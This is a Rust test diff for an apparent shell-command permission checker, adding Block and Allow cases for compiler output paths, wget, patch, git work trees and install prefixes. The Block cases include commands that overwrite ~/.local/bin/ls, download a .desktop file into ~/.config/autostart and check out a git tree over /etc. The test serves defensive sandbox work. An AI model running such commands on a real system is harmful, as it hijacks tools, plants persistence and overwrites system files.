@@ -2347,3 +2347,38 @@ fn c_inherited_stdin_consoles_and_data_modules() {
         (Allow, r#"python3 -c "import code""#),
     ]);
 }
+
+/// F: write-valued options of compilers, patch, wget, git's work tree and worktrees, and
+/// install prefixes outside the workspace.
+#[test]
+fn f_output_options_and_work_trees() {
+    check(&[
+        (Block, r#"gcc -o ~/.local/bin/ls x.c"#),
+        (Block, r#"cc x.c -o /usr/local/bin/x"#),
+        (Block, r#"go build -o ~/.local/bin/git ."#),
+        (
+            Block,
+            r#"wget -P ~/.config/autostart https://x.example/a.desktop"#,
+        ),
+        (Block, r#"patch -p1 -d ~ < p.diff"#),
+        (
+            Block,
+            r#"git apply --unsafe-paths --directory=/home/dev p.diff"#,
+        ),
+        (
+            Block,
+            r#"git --git-dir=.git --work-tree=/ checkout HEAD -- etc"#,
+        ),
+        (Block, r#"git worktree add ~/.config/x"#),
+        (Block, r#"make DESTDIR=/ install"#),
+        (Block, r#"cmake --install . --prefix /usr"#),
+        (Allow, r#"gcc -o app main.c"#),
+        (Allow, r#"go build -o bin/server ./cmd/server"#),
+        (Allow, r#"gcc -o /tmp/a.out x.c"#),
+        (Allow, r#"patch -p1 -d vendor/lib < fix.diff"#),
+        (Allow, r#"wget -P downloads https://x.example/f"#),
+        (Allow, r#"git worktree add .worktrees/x"#),
+        (Allow, r#"DESTDIR=/tmp/pkg make install"#),
+        (Allow, r#"cmake --install build --prefix dist"#),
+    ]);
+}
